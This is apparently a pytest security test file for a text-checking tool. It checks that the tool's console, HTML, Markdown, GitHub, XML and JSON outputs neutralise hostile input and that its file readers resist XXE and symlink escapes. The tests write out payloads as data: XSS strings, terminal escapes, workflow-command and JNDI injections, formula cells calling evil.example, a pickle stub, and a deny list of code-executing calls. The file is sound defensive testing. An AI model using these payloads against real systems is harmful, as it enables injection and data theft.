"""Attacks by way of what is checked: each stays a text. The page `.github/docs/threat-model.md` says which and why."""

from __future__ import annotations

import ast
import csv
import http.server
import io
import json
import re
import threading
from collections.abc import Iterator
from html.parser import HTMLParser
from pathlib import Path
from xml.etree import ElementTree

import pytest

import qa
from qa.checker import Checker
from qa.cli import main
from qa.document import Document
from qa.errors import ModelError
from qa.output import FORMATS, View, render
from qa.output.visible import is_unseen
from qa.report import Report

PACKAGE = Path(qa.__file__).parent
ESCAPES = "\x1b]0;owned\x07\x1b[2J\x1b[31mred\x9b31m\r\b\x7f"
BIDI = "\u202e\u2066evil\u2069\u202c"
MARKUP = (
    "</script><script>alert(1)</script> <img src=x onerror=alert(1)> [a](javascript:alert(1)) ]]> <!-- --> @channel "
    "![x](http://evil.example/?q) <details> `code` | cell | :warning: #1 ::error::owned %0A::error::owned \n::set-env "
    'name=PATH::/evil\n::add-mask::x {{7*7}} ${jndi:ldap://evil} =HYPERLINK("http://evil.example") \'"><svg onload=x>'
)
HOSTILE = (
    f"The first words ., {ESCAPES} {BIDI} {MARKUP} are ( here and  there ., and\n\nPhoto: {MARKUP[:80]} / Reuters\n"
)
NAME = "a\x1b[31m\u202e`|<b>;::error::.txt"


@pytest.fixture(scope="module")
def report() -> Report:
    found = Checker("none").check(Document.from_text(HOSTILE, "en", NAME))
    assert len(found.findings) > 5
    return found


def told(report: Report, name: str, **options: object) -> str:
    return render([report], View(unread=(f"{NAME}: {MARKUP}",), **options), name)  # type: ignore[arg-type]


def obeyed(text: str) -> list[str]:
    """Characters that a terminal obeys or that hide others."""
    return [hex(ord(c)) for c in text if c != "\n" and is_unseen(c)]


@pytest.mark.parametrize("name", sorted(FORMATS.keys() - {"console"}))
def test_no_output_for_programs_holds_what_a_terminal_obeys(report: Report, name: str) -> None:
    raw = told(report, name)
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f]", raw.replace("\r\n", "\n"))


@pytest.mark.parametrize("quiet", [False, True])
def test_the_console_shows_escapes_as_pictures(report: Report, quiet: bool) -> None:
    written = told(report, "console", quiet=quiet, width=80)
    assert obeyed(written) == []
    assert "␛" in written
    assert "<U+202E>" in written


def test_colours_are_the_only_commands_to_a_terminal(report: Report) -> None:
    written = told(report, "console", colour=True)
    assert obeyed(re.sub(r"\x1b\[[\d;]*m", "", written)) == []
    assert written.count("\x1b[") == len(re.findall(r"\x1b\[(?:\d{1,3}(?:;\d{1,3})*)?m", written))


@pytest.fixture
def hostile_folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("QA_CACHE_DIR", str(tmp_path / "cache"))
    (tmp_path / NAME).write_text(HOSTILE, encoding="utf-8")
    (tmp_path / ("b" + NAME.replace(".txt", ".json"))).write_text('{"text": "\x1b[2J')
    (tmp_path / ("c" + NAME.replace(".txt", ".xlf"))).write_text("<xliff version='1.2'>\x1b")
    return tmp_path


@pytest.mark.parametrize(
    "argv",
    [
        ["check", "."],
        ["check", ".", "--quiet"],
        ["check", f"nothing{NAME}"],
        ["check", ".", "--lang", NAME],
        ["check", ".", "--select", NAME],
        ["check", ".", "--config", NAME],
        ["check", ".", "--baseline", NAME],
        ["check", ".", "--format", NAME],
        ["check", ".", "--output", f"no\x1b[31m/{NAME}"],
        ["check", ".", "--diff", f"--output={NAME}"],
        ["check", ".", "--source", NAME],
        ["check", ".", "--model", NAME],
        ["check", ".", "--quality", NAME],
        ["fix", "."],
        ["fix", ".", "--unsafe"],
        ["explain", NAME],
        ["models", "info", NAME],
        ["compare", NAME, NAME],
        [NAME],
    ],
    ids=lambda argv: " ".join(argv)[:30].encode("ascii", "backslashreplace").decode(),
)
def test_no_command_hands_commands_to_the_terminal(
    hostile_folder: Path, capfd: pytest.CaptureFixture[str], argv: list[str]
) -> None:
    main([*argv, *(["--model", "none"] if argv[0] in ("check", "fix") and "--model" not in argv else [])])
    out, err = capfd.readouterr()
    assert obeyed(out) == []
    assert obeyed(err) == []
    assert out + err


class Page(HTMLParser):
    """The elements and attributes of a page, as a browser finds them."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str | None]] = []
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes += attrs


def test_a_text_adds_no_elements_to_the_page(report: Report) -> None:
    harmless = Page(told(Checker("none").check("The first words ., are here.", lang="en"), "html"))
    page = Page(told(report, "html"))
    assert page.tags.count("script") == harmless.tags.count("script")
    assert not {"img", "svg", "iframe", "object", "embed", "base", "form"} & (set(page.tags) - set(harmless.tags))
    assert not any(name.startswith("on") for name, _ in page.attributes)
    assert not any((value or "").lower().startswith(("javascript:", "data:")) for _, value in page.attributes)


def test_the_page_lets_nothing_run_or_load_but_its_own(report: Report) -> None:
    policy = next(v for n, v in Page(told(report, "html")).attributes if n == "content" and "default-src" in (v or ""))
    assert policy
    assert "default-src 'none'" in policy
    assert "unsafe" not in policy


def test_a_text_gives_no_commands_to_a_workflow(report: Report) -> None:
    for line in told(report, "github").split("\n"):
        assert not re.match(r"\s*::(?!error |warning |notice )", line), line
    assert "::set-env" not in {line[:9] for line in told(report, "github").split("\n")}


def test_nothing_of_a_text_works_in_a_comment(report: Report) -> None:
    from markdown_it import MarkdownIt

    written = told(report, "markdown")
    page = Page(MarkdownIt("gfm-like", {"linkify": False}).render(written))
    assert not {"img", "script", "svg", "a", "iframe"} & set(page.tags)
    assert not re.search(r"(?<![\w`\u200b])@channel", written)


@pytest.mark.parametrize("name", ["junit", "checkstyle"])
def test_xml_is_well_formed(report: Report, name: str) -> None:
    assert ElementTree.fromstring(told(report, name)).tag


@pytest.mark.parametrize("name", ["json", "sarif", "gitlab"])
def test_json_is_json(report: Report, name: str) -> None:
    json.loads(told(report, name))


def _tree(file: Path) -> ast.AST:
    return ast.parse(file.read_text(encoding="utf-8"))


def test_nothing_that_runs_code_of_others_is_called() -> None:
    """No unpickling, no evaluating, no shell; the one that runs COMET unpickles in a process of its own, if told to."""
    forbidden = {"eval", "exec", "compile", "__import__"}
    for file in PACKAGE.rglob("*.py"):
        for node in ast.walk(_tree(file)):
            if isinstance(node, ast.Call):
                name = node.func.id if isinstance(node.func, ast.Name) else None
                assert name not in forbidden, file
                for keyword in node.keywords:
                    value = keyword.value.value if isinstance(keyword.value, ast.Constant) else None
                    assert (keyword.arg, value) not in {
                        ("shell", True),
                        ("trust_remote_code", True),
                        ("allow_pickle", True),
                        ("weights_only", False),
                    }, file
            if isinstance(node, (ast.Import, ast.ImportFrom)):
                modules = {a.name for a in node.names} | {getattr(node, "module", None)}
                assert not modules & {"pickle", "shelve", "marshal", "dill", "joblib", "yaml"}, file


def test_weights_that_are_pickles_are_refused(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from qa.scoring import load_model

    pytest.importorskip("transformers")
    (tmp_path / "config.json").write_text('{"model_type": "gpt2", "architectures": ["GPT2LMHeadModel"]}')
    (tmp_path / "pytorch_model.bin").write_bytes(b"\x80\x04cos\nsystem\n")
    with pytest.raises(ModelError, match="pickle files are not loaded"):
        load_model(f"hf:{tmp_path}").surprisal(["text"])


def test_the_network_is_not_touched(monkeypatch: pytest.MonkeyPatch, report: Report) -> None:
    """Neither the checker nor an output opens a connection, whatever addresses a text names."""
    import socket

    def refused(*arguments: object) -> None:
        raise AssertionError("a connection")

    monkeypatch.setattr(socket, "socket", refused)
    monkeypatch.setattr(socket, "getaddrinfo", refused)
    again = Checker("builtin", cache=False).check(HOSTILE + "http://evil.example/x.dtd", lang="en")
    for name in FORMATS:
        told(again, name)


def test_files_that_a_file_names_are_not_read(tmp_path: Path) -> None:
    """No entity, no inclusion, no link leads to another file."""
    from qa.readers import read

    secret = tmp_path / "secret.txt"
    secret.write_text("The password is tulip.")
    url = secret.as_uri()
    files = {
        "a.xlf": f'<!DOCTYPE x [<!ENTITY e SYSTEM "{url}">]><xliff version="1.2"><file><body><trans-unit id="1">'
        "<source>&e;</source><target>&e;</target></trans-unit></body></file></xliff>",
        "a.html": f'<!doctype html><p>Text</p><iframe src="{url}"></iframe><object data="{url}"></object>'
        f'<!--#include virtual="{url}"--><link rel=import href="{url}">',
        "a.md": f"Text ![x]({url}) <!--#include file={url} -->\n\n{{% include {secret} %}}\n",
        "a.xhtml": f'<?xml version="1.0"?><!DOCTYPE html [<!ENTITY e SYSTEM "{url}">]><html><p>&e; text</p></html>',
    }
    for name, text in files.items():
        (tmp_path / name).write_text(text)
        assert "tulip" not in "".join(getattr(d, "text", "") for d in read(tmp_path / name)), name


def test_links_out_of_a_folder_are_not_followed(tmp_path: Path) -> None:
    """A checkout can't make a run read, and show, what else lies on the machine; a link that is named is the user's."""
    from qa.readers import discover

    (tmp_path / "outside").mkdir()
    secret = tmp_path / "outside/secret.txt"
    secret.write_text("text")
    inside = tmp_path / "inside"
    inside.mkdir()
    (inside / "a.txt").write_text("text")
    (inside / "b.txt").symlink_to(inside / "a.txt")
    (inside / "folder").symlink_to(secret.parent, target_is_directory=True)
    (inside / "link.txt").symlink_to(secret)
    assert [*discover([inside])] == [str(inside / "a.txt"), str(inside / "b.txt")]
    assert [*discover([inside / "link.txt"])] == [str(inside / "link.txt")]


@pytest.fixture
def refusing() -> Iterator[str]:
    """A server that says no, and repeats all that it was sent."""

    class Refusing(http.server.BaseHTTPRequestHandler):
        def do_POST(self) -> None:
            self.rfile.read(int(self.headers["Content-Length"]))
            body = json.dumps({"error": {"message": f"\x1b[31mno: {self.headers.as_string()}"}}).encode()
            self.send_response(401)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        do_GET = do_POST  # noqa: N815  # the names that http.server calls

        def log_message(self, *arguments: object) -> None:
            pass

    server = http.server.HTTPServer(("127.0.0.1", 0), Refusing)
    thread = threading.Thread(target=server.serve_forever)
    thread.start()
    yield f"http://127.0.0.1:{server.server_port}/v1"
    server.shutdown()
    thread.join()
    server.server_close()


def test_a_key_is_never_told(
    refusing: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capfd: pytest.CaptureFixture[str]
) -> None:
    key = "sk-tulip-1234567890"
    monkeypatch.setenv("QA_OPENAI_API_KEY", key)
    monkeypatch.setenv("OPENAI_API_KEY", key)
    monkeypatch.setenv("QA_DEBUG", "1")
    monkeypatch.setenv("QA_CACHE_DIR", str(tmp_path / "cache"))
    (tmp_path / "a.txt").write_text("The ferry was late.")
    (tmp_path / "b.txt").write_text("Die Fähre kam zu spät.", encoding="utf-8")
    argv = ["check", str(tmp_path / "b.txt"), "--source", str(tmp_path / "a.txt"), "--model", "none"]
    assert main([*argv, "--quality", f"openai:{refusing}#m"]) == 2
    out, err = capfd.readouterr()
    assert "401" in err
    assert key not in out + err


def test_tables_that_spreadsheets_open_are_not_written() -> None:
    """A cell that begins with = is run by spreadsheets; no output is such a table, so none can hold one."""
    assert not {"csv", "tsv", "xlsx"} & FORMATS.keys()


def test_cells_of_tables_are_read_as_text(tmp_path: Path) -> None:
    from qa.readers import read

    rows = io.StringIO()
    csv.writer(rows).writerows([["source", "target"], ["=1+1", '=HYPERLINK("http://evil.example")']])
    (tmp_path / "a.csv").write_text(rows.getvalue())
    (document,) = read(tmp_path / "a.csv")
    assert isinstance(document, Document)
    assert document.text == '=HYPERLINK("http://evil.example")'
